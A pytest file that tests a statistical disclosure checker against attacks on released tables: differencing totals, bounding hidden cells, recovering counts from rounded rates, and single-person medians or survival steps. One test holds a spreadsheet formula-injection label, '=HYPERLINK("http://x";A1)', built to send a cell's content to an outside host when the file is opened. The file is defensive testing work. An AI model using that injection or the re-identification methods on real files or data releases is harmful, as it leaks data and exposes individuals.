"""Attacks on finished releases: the attacker has the files that left, and nothing else.

Each test is an attack that works on a table written as counted, and how it fails on ours.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from itertools import product

import pytest

from output_checker import canonical, figures
from output_checker.policy import Policy
from output_checker.report import FileReport, Verdict
from tests import plain_audit
from tests.a_cohort import DEFAULT, EXACT, Desk, people

Row = tuple[str, ...]
Files = Mapping[str, bytes]
WARDS = {
    ("a", "yes"): 3, ("a", "no"): 62, ("b", "yes"): 21, ("b", "no"): 48,
    ("c", "yes"): 35, ("c", "no"): 77,
}  # fmt: skip


def left(file: FileReport) -> Files:
    """The bytes that would leave of an output."""
    assert file.verdict < Verdict.FAIL
    assert file.table is not None
    canonical.check(file.table)
    pictures = figures.draw(file.table)
    tables = {"csv": canonical.as_csv(file.table), "json": canonical.as_json(file.table)}
    return {**tables, **pictures}


def rows_of(files: Files, dimensions: int) -> dict[Row, list[str]]:
    """The released table as an attacker reads it: levels, then the measures' words."""
    _, *lines = csv.reader(io.StringIO(files["csv"].decode()))
    return {tuple(line[:dimensions]): line[dimensions:] for line in lines}


def known(word: str, policy: Policy) -> tuple[float, float]:
    """What a released count can have been: anything if hidden; about itself if rounded."""
    if word == canonical.HIDDEN:
        return (0, 1000)
    half = policy.round_to // 2
    return (max(0, int(word) - half), int(word) + half)


def crossed(rows: Mapping[Row, list[str]], policy: Policy) -> dict:
    """The sums that tie a cross's cells, as a problem for the audit of the tests' own."""
    between = {",".join(row): known(words[0], policy) for row, words in rows.items()}
    down, across = (sorted({row[place] for row in rows} - {"[total]"}) for place in (0, 1))
    sums = [
        {f"{x},[total]": -1, **{f"{x},{y}": 1 for y in across}} for x in [*down, "[total]"]
    ]
    sums += [
        {f"[total],{y}": -1, **{f"{x},{y}": 1 for x in down}} for y in [*across, "[total]"]
    ]
    cells = [
        {"id": id_, "value": high, "shown": limits, "low": limits[0], "high": limits[1]}
        for id_, limits in between.items()
        for high in limits[1:]
    ]
    return {"cells": cells, "equations": sums, "primaries": []}


@pytest.mark.parametrize("policy", [EXACT, DEFAULT], ids=["exact", "rounded"])
def test_a_total_less_the_other_groups(tmp_path, policy):
    """Shown as counted, 3 = 134 - 62 - 69. Here one more is hidden, or all are rounded."""
    desk = Desk(tmp_path, people({("a",): 3, ("b",): 62, ("c",): 69}, "ward"))
    desk.crosstab(rows="ward")
    rows = rows_of(left(desk.file(policy)), 1)
    (total,) = (words for row, words in rows.items() if row == ("[total]",))
    others = [
        known(w[0], policy) for row, w in rows.items() if row not in {("a",), ("[total]",)}
    ]
    low = known(total[0], policy)[0] - sum(high for _, high in others)
    high = known(total[0], policy)[1] - sum(low for low, _ in others)
    assert rows["a",] == [canonical.HIDDEN]
    assert low <= 1
    assert high >= 10


@pytest.mark.parametrize("policy", [EXACT, DEFAULT], ids=["exact", "rounded"])
def test_both_margins_of_a_cross(tmp_path, policy):
    """All sums at once, by a linear program that isn't the product's."""
    desk = Desk(tmp_path, people(WARDS, "ward", "infected"))
    desk.crosstab(rows="ward", columns="infected")
    rows = rows_of(left(desk.file(policy)), 2)
    problem = crossed(rows, policy)
    hidden = {cell["id"] for cell in problem["cells"] if cell["high"] == 1000}
    low, high = plain_audit.interval(problem, hidden, "a,yes")
    assert "a,yes" in hidden
    assert low <= 1
    assert high >= 10


def test_another_table_of_the_same_people(tmp_path):
    """A table by ward alone has the margin that the cross leaves out, and no more."""
    desk = Desk(tmp_path, people(WARDS, "ward", "infected"))
    desk.crosstab(path="output/t.csv", rows="ward", columns="infected", margins=False)
    desk.crosstab(path="output/u.csv", rows="ward")
    report = desk.report(EXACT)
    cross = rows_of(left(report["output/t.csv"]), 2)
    wards = rows_of(left(report["output/u.csv"]), 1)
    assert cross["a", "yes"] == [canonical.HIDDEN]
    assert canonical.HIDDEN in (*cross["a", "no"], *wards["a",])


def test_a_mean_times_its_people(tmp_path):
    """All less the groups that are shown is the sum of those hidden, never one's own."""
    frame = people({("a",): 1, ("b",): 30, ("c",): 40}, "ward")
    frame["cost"] = [
        777.0,
        *(100.0 + n for n in range(30)),
        *(200.0 + n for n in range(40)),
    ]
    desk = Desk(tmp_path, frame)
    desk.summary(value="cost", by="ward", measures=("n", "mean"))
    rows = rows_of(left(desk.file(EXACT)), 1)
    shown = {row: words for row, words in rows.items() if canonical.HIDDEN not in words}
    people_left = 71 - sum(
        int(words[0]) for row, words in shown.items() if row != ("[total]",)
    )
    assert ("a",) not in shown
    assert ("[total]",) not in shown or people_left >= 10


def test_a_mean_less_another_columns_mean(tmp_path):
    """Visits less urgent ones are three people's, and two people look at that."""
    frame = people({("a",): 60, ("b",): 60}, "ward")
    frame["urgent"] = frame.index % 13
    frame["visits"] = frame.urgent + (frame.index < 3)
    desk = Desk(tmp_path, frame)
    for value in ("urgent", "visits"):
        desk.summary(f"output/{value}.csv", value=value, by="ward", measures=("n", "mean"))
    files = desk.report(EXACT).values()
    means = [float(rows_of(left(file), 1)["a",][1]) for file in files]
    assert round(60 * abs(means[0] - means[1])) == 3
    assert {file.verdict for file in files} == {Verdict.REVIEW}


def test_hidden_numbers_leave_no_trace_in_any_byte(tmp_path):
    """Two cohorts that differ in what is hidden alone: tables and pictures are the same."""
    released = []
    for n, few in enumerate((3, 7)):
        counts = {("a",): few, ("b",): 30 - few, ("c",): 80}
        (tmp_path / str(n)).mkdir()
        desk = Desk(tmp_path / str(n), people(counts, "ward"))
        desk.crosstab(rows="ward", figure="bar")
        released.append(left(desk.file(EXACT)))
    assert set(released[0]) == {"csv", "json", "png", "svg"}
    assert released[0] == released[1]


def test_counts_found_by_a_rates_digits(tmp_path):
    """All pairs of counts that would be rounded so are still possible."""
    inner = {("a", True): 12, ("a", False): 59, ("b", True): 31, ("b", False): 70}
    desk = Desk(tmp_path, people(inner, "ward", "ill"))
    desk.make("rates", numerator="ill", by="ward")
    numerator, denominator, rate = rows_of(left(desk.file(DEFAULT)), 1)["a",]
    possible = [
        (n, d)
        for n, d in product(range(300), range(300))
        if _rounded(n) == int(numerator) and _rounded(d) == int(denominator)
    ]
    assert float(rate) == pytest.approx(1000 * int(numerator) / int(denominator), abs=0.05)
    assert len(possible) == 25


def _rounded(count: int) -> int:
    return 5 * ((count + 2) // 5)


def test_a_median_that_is_one_persons_value(tmp_path):
    """The middle one of nine values, told exactly, is that of one person."""
    frame = people({("a",): 9, ("b",): 60}, "ward")
    frame["cost"] = [100.0 + n**2 for n in range(9)] + [100.0 + n for n in range(60)]
    desk = Desk(tmp_path, frame)
    desk.make("percentiles", value="cost", by="ward", at=(50,), margins=False)
    rows = rows_of(left(desk.file(EXACT)), 1)
    assert rows["a",][1] == canonical.HIDDEN
    assert float(rows["b",][1]) not in set(frame.cost) - {100.0, 130.0}


def test_a_step_of_a_survival_curve_at_one_persons_time(tmp_path):
    """One death on day 33: a curve with a step there would tell who died that day."""
    inner = {(5, True): 30, (15, True): 25, (33, True): 1, (50, False): 120}
    desk = Desk(tmp_path, people(inner, "days", "died"))
    desk.make("survival", time="days", event="died", steps=[10, 20, 30, 40])
    rows = rows_of(left(desk.file(EXACT)), 1)
    assert rows["30 to under 40",][1] == canonical.HIDDEN


def test_a_label_that_a_spreadsheet_would_run(tmp_path):
    """It would fetch a page, and tell it a cell's content, when somebody opens the file."""
    counts = {('=HYPERLINK("http://x";A1)',): 40, ("plain",): 50}
    desk = Desk(tmp_path, people(counts, "ward"))
    desk.crosstab(rows="ward", margins=False)
    first, *_ = rows_of(left(desk.file(DEFAULT)), 1)
    assert first[0].startswith("'=")


def test_a_file_changed_after_it_was_counted(tmp_path):
    """The author's file is never what leaves: another one is written from the cohort."""
    desk = Desk(tmp_path, people(WARDS, "ward", "infected"))
    desk.crosstab(rows="ward", margins=False)
    before = left(desk.file(DEFAULT))
    desk.write("output/t.csv", b"ward,n\nmme-martin,1\n")
    assert left(desk.file(DEFAULT)) == before


def test_words_for_a_message(tmp_path):
    """A title may carry words; one with numbers of its own is shown to two people."""
    desk = Desk(tmp_path, people({("a",): 50, ("b",): 60}, "ward"))
    desk.crosstab(rows="ward", title="Ward 1948 0312 7755 21")
    file = desk.file(DEFAULT)
    assert file.verdict is Verdict.REVIEW
    assert "words" in {finding.check for finding in file.findings}
